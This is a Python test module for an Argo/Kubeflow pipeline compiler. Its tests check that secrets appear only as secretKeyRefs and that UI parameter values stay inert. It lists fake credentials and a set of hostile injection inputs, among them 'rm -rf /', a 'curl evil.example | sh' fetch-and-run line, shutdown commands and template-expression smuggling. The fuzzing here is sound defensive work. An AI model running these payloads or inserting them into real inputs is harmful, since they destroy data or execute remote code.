"""What the rendered documents must never contain: secret values, and user input where it could run.

- Secrets reach pods only as `secretKeyRef`s: no value from the environment of the process that renders, and
  no secret name anywhere but in a `secretKeyRef` (and the embedded spec, which records references).
- Workflow parameter values (the Argo UI form) are data: they appear as the Workflow's argument values and
  are written by Argo into files (raw input artifacts); never in a container's command, args or env, never
  in a PyTorchJob manifest, whatever quotes, shell metacharacters, newlines or `{{` they hold.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest
import yaml
from conftest import PIPELINE_VARIANTS, fresh_spec, variant_id
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spec.cluster import SecretRef, Secrets
from spec.pipeline import PipelineSpec
from workflows.compile import compile_pipeline

FAKE_SECRET_VALUES = {
    "HF_TOKEN": "hf_FAKEtokenZ9q8w7e6r5t4y3u2i1o0",
    "WANDB_API_KEY": "wandbFAKEkey0123456789abcdef0123456789abcd",
    "MLFLOW_TRACKING_USERNAME": "fake-mlflow-user-7f3a",
    "MLFLOW_TRACKING_PASSWORD": "FAKEpassw0rd!#mlflow-9c1d",
    "MLFLOW_TRACKING_TOKEN": "mlflowFAKEbearer-5e2b7c",
    "AWS_ACCESS_KEY_ID": "AKIAFAKEFAKEFAKE1234",
    "AWS_SECRET_ACCESS_KEY": "FAKEsecretAccessKey/abc+def0123456789XYZ",
    "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/TFAKE000/BFAKE000/fakeWebhookSecret42",
    "ARGO_TOKEN": "Bearer fake-argo-token-d41d8cd98f00",
}

SECRET_REFS = {
    "hf_token": SecretRef(name="zz-hf-secret", key="zz-hf-key"),
    "wandb_api_key": SecretRef(name="zz-wandb-secret", key="zz-wandb-key"),
    "mlflow_username": SecretRef(name="zz-mlflow-secret", key="zz-mlflow-user-key"),
    "mlflow_password": SecretRef(name="zz-mlflow-secret", key="zz-mlflow-password-key"),
    "mlflow_token": SecretRef(name="zz-mlflow-token-secret", key="zz-mlflow-token-key"),
    "slack_webhook": SecretRef(name="zz-slack-secret", key="zz-slack-key"),
    "aws_access_key_id": SecretRef(name="zz-s3-secret", key="zz-s3-id-key"),
    "aws_secret_access_key": SecretRef(name="zz-s3-secret", key="zz-s3-secret-key"),
    "aws_endpoint_url": SecretRef(name="zz-s3-secret", key="zz-s3-endpoint-key"),
}

_BASE64 = re.compile(r"^[A-Za-z0-9+/]{40,}={0,2}$")


def _walk(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    yield path, node
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _walk(value, (*path, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _walk(value, (*path, i))


_SAFE_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
"""libyaml's safe loader where PyYAML has it: the same documents, parsed several times faster (the property tests
expand every manifest of a pipeline for each example)."""


def _expanded(documents: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """The documents with every embedded text decoded: PyTorchJob manifests parsed, base64 blobs decoded."""

    def expand(node: Any) -> Any:
        if isinstance(node, dict):
            out = {k: expand(v) for k, v in node.items()}
            if isinstance(out.get("manifest"), str):
                out["manifest"] = expand(yaml.load(out["manifest"], Loader=_SAFE_LOADER))
            return out
        if isinstance(node, list):
            return [expand(v) for v in node]
        if isinstance(node, str) and _BASE64.match(node):
            try:
                return {"<base64>": expand(json.loads(base64.b64decode(node, validate=True)))}
            except (binascii.Error, ValueError):
                return node
        return node

    return {name: expand(doc) for name, doc in documents.items()}


def _all_text(documents: dict[str, Any]) -> str:
    return json.dumps(documents, ensure_ascii=False) + "\n".join(
        yaml.safe_dump(d, allow_unicode=True) for d in documents.values()
    )


def _with_all_secrets(spec: PipelineSpec) -> PipelineSpec:
    spec.cluster.secrets = Secrets(**SECRET_REFS)
    spec.notifications.slack = True
    return spec


@pytest.mark.parametrize("variant", PIPELINE_VARIANTS, ids=[variant_id(v) for v in PIPELINE_VARIANTS])
def test_no_secret_value_in_any_document(variant: tuple[str, str | None], monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in FAKE_SECRET_VALUES.items():
        monkeypatch.setenv(name, value)
    spec = _with_all_secrets(fresh_spec(*variant))
    documents = _expanded(compile_pipeline(spec).documents())
    text = _all_text(documents)
    for name, value in FAKE_SECRET_VALUES.items():
        assert value not in text, f"the value of ${name} leaked into a rendered document"
        assert value.split("/")[-1] not in text


@pytest.mark.parametrize("variant", PIPELINE_VARIANTS, ids=[variant_id(v) for v in PIPELINE_VARIANTS])
def test_secrets_appear_only_as_secret_key_refs(variant: tuple[str, str | None]) -> None:
    spec = _with_all_secrets(fresh_spec(*variant))
    documents = _expanded(compile_pipeline(spec).documents())
    names = {ref.name for ref in SECRET_REFS.values()}
    keys = {ref.key for ref in SECRET_REFS.values()}
    refs_seen = set()
    for filename, doc in documents.items():
        for path, node in _walk(doc):
            if "<base64>" in path:
                continue  # the embedded spec records the references themselves
            if isinstance(node, str) and (node in names or node in keys):
                assert path[-2:] in (("secretKeyRef", "name"), ("secretKeyRef", "key")), (filename, path)
            if isinstance(node, dict) and "secretKeyRef" in node:
                ref = node["secretKeyRef"]
                assert ref["name"] in names and ref["key"] in keys, (filename, path, ref)
                refs_seen.add((ref["name"], ref["key"]))
            if isinstance(node, dict) and "env" in node and isinstance(node["env"], list):
                for var in node["env"]:
                    if var["name"] in FAKE_SECRET_VALUES:
                        assert "value" not in var and "secretKeyRef" in var["valueFrom"], (filename, path, var)
    # Every secret the spec declares reaches some pod.
    assert refs_seen == {(r.name, r.key) for r in SECRET_REFS.values()}


# --------------------------------------------------------------------------- parameter values stay inert

HOSTILE = st.one_of(
    st.sampled_from(
        [
            "$(id)",
            "`reboot`",
            "'; rm -rf / #",
            '"; curl evil.example | sh; echo "',
            "a\nb\r\nc",
            "{{workflow.uid}}",
            "{{=sprig.env('HOME')}}",
            "{{inputs.parameters.x}}",
            "x && shutdown -h now",
            "$HF_TOKEN ${AWS_SECRET_ACCESS_KEY}",
            "stages.sft.training.learning_rate=1\nstages.sft.resources.image=evil:latest",
        ]
    ),
    st.lists(
        st.sampled_from([*"abc XYZ019'\"`$(){}[];|&<>\\\n\t*?!#~=.%,:/-_", "{{", "}}", "é", "한"]),
        min_size=1,
        max_size=30,
    ).map("".join),
)
MARK = "QQINERT"  # makes each value distinctive, so finding it anywhere means it was copied there


@cache
def _parameter_names(variant: tuple[str, str | None]) -> tuple[str, ...]:
    """Names of the compiled template's parameters (the UI form)."""
    template = compile_pipeline(fresh_spec(*variant)).documents()["workflowtemplate.yaml"]
    return tuple(p["name"] for p in template["spec"]["arguments"]["parameters"])


def _executable_text(documents: dict[str, Any]) -> Iterator[tuple[str, tuple[Any, ...], str]]:
    """Every string that a container runs or that creates a resource: command, args, env, manifests, scripts."""
    for filename, doc in documents.items():
        for path, node in _walk(doc):
            if not isinstance(node, str):
                continue
            if any(part in ("command", "args", "env", "source", "manifest") for part in path if isinstance(part, str)):
                yield filename, path, node


CREATED_JOB_NAME = "{{steps.create.outputs.parameters.job-name}}"


SEARCH_INPUTS = {
    # the Katib Experiment a search's wait step reads: the name its create step got from the API server
    "experiment-name": (
        ("resource", "manifest", "metadata", "name"),
        "{{steps.create.outputs.parameters.experiment-name}}",
    ),
    # the search's best trial, as Katib wrote it, handed to the select step as a file
    "optimal-trial": (("inputs", "artifacts", 0, "raw", "data"), "{{steps.wait.outputs.parameters.optimal-trial}}"),
}


def _is_search_input(doc: dict, path: tuple, node: str) -> bool:
    """An input parameter of a stage's search (hpo) steps, which every caller binds to the previous step's output
    (what the API server or Katib wrote), never to a form value."""
    match = re.fullmatch(r"\{\{inputs\.parameters\.([-a-z]+)\}\}", node)
    if match is None or match.group(1) not in SEARCH_INPUTS or path[:2] != ("spec", "templates") or len(path) < 4:
        return False
    where, source = SEARCH_INPUTS[match.group(1)]
    template = doc["spec"]["templates"][path[2]]
    if path[3:] != where:
        return False
    calls = [step for t in doc["spec"]["templates"] for group in t.get("steps") or [] for step in group]
    calls = [step for step in calls if step["template"] == template["name"]]
    bound = [p for step in calls for p in step.get("arguments", {}).get("parameters", [])]
    return bool(calls) and bound == [{"name": match.group(1), "value": source}] * len(calls)


def _is_created_job_name(doc: dict, path: tuple, node: str) -> bool:
    """The one input parameter in a manifest: the name of the job a training stage's wait step reads, which every
    caller binds to the create step's output (the name the API server generated), never to a form value."""
    if _is_search_input(doc, path, node):
        return True
    if node != "{{inputs.parameters.job-name}}" or path[:2] != ("spec", "templates") or len(path) < 4:
        return False
    template = doc["spec"]["templates"][path[2]]
    if path[3:] != ("resource", "manifest", "metadata", "name") or template["resource"]["action"] != "get":
        return False
    calls = [
        step
        for t in doc["spec"]["templates"]
        for group in t.get("steps") or []
        for step in group
        if step["template"] == template["name"]
    ]
    bound = [p for step in calls for p in step.get("arguments", {}).get("parameters", [])]
    return bool(calls) and bound == [{"name": "job-name", "value": CREATED_JOB_NAME}] * len(calls)


@pytest.mark.parametrize("variant", PIPELINE_VARIANTS, ids=[variant_id(v) for v in PIPELINE_VARIANTS])
def test_template_reads_parameters_only_into_files(variant: tuple[str, str | None]) -> None:
    """In the WorkflowTemplate, `{{workflow.parameters.*}}` is only ever a whole raw artifact's data."""
    spec = fresh_spec(*variant)
    documents = _expanded(compile_pipeline(spec).documents())
    names = _parameter_names(variant)
    used = set()
    for filename, doc in documents.items():
        for path, node in _walk(doc):
            if isinstance(node, str) and re.search(r"\{\{\s*=?\s*(workflow\.parameters|inputs\.parameters)", node):
                if _is_created_job_name(doc, path, node):
                    continue
                assert path[-2:] == ("raw", "data"), (filename, path, node)
                match = re.fullmatch(r"\{\{workflow\.parameters\.([-a-z0-9]+)\}\}", node)
                assert match and match.group(1) in names, (filename, path, node)
                used.add(match.group(1))
    assert used == set(names), "every UI parameter reaches the prepare step"


@pytest.mark.parametrize("variant", PIPELINE_VARIANTS, ids=[variant_id(v) for v in PIPELINE_VARIANTS])
@settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_parameter_values_stay_inert(variant: tuple[str, str | None], data: st.DataObject) -> None:
    spec = fresh_spec(*variant)
    names = _parameter_names(variant)
    values = {name: f"{MARK}{i}:{data.draw(HOSTILE, label=name)}" for i, name in enumerate(names)}
    documents = compile_pipeline(spec, values).documents()
    expanded = _expanded(documents)

    given_values = {p["name"]: p["value"] for p in documents["workflow.yaml"]["spec"]["arguments"]["parameters"]}
    assert given_values == values  # passed through verbatim, as data

    for filename, path, text in _executable_text(expanded):
        assert MARK not in text, (filename, path, text)
    # Nowhere else either: not in the template, the schedule, or a Workflow field other than the values.
    for filename, doc in expanded.items():
        for path, node in _walk(doc):
            if isinstance(node, str) and MARK in node:
                assert filename == "workflow.yaml" and path[:3] == ("spec", "arguments", "parameters"), path
                assert path[-1] == "value", path
    # And the values survive YAML as written to disk.
    assert yaml.safe_load(yaml.safe_dump(documents["workflow.yaml"], allow_unicode=True)) == documents["workflow.yaml"]


def test_a_job_name_from_the_form_would_be_caught() -> None:
    """Guard: the exception above holds only while the wait step's name comes from the create step."""
    doc = compile_pipeline(fresh_spec("korean-llm", None)).documents()["workflowtemplate.yaml"]
    templates = doc["spec"]["templates"]
    index = next(i for i, t in enumerate(templates) if t["name"] == "sft-wait")
    path = ("spec", "templates", index, "resource", "manifest", "metadata", "name")
    assert _is_created_job_name(doc, path, "{{inputs.parameters.job-name}}")
    attempt = next(t for t in templates if t["name"] == "sft")
    attempt["steps"][2][0]["arguments"]["parameters"][0]["value"] = "{{workflow.parameters.base-model}}"
    assert not _is_created_job_name(doc, path, "{{inputs.parameters.job-name}}")
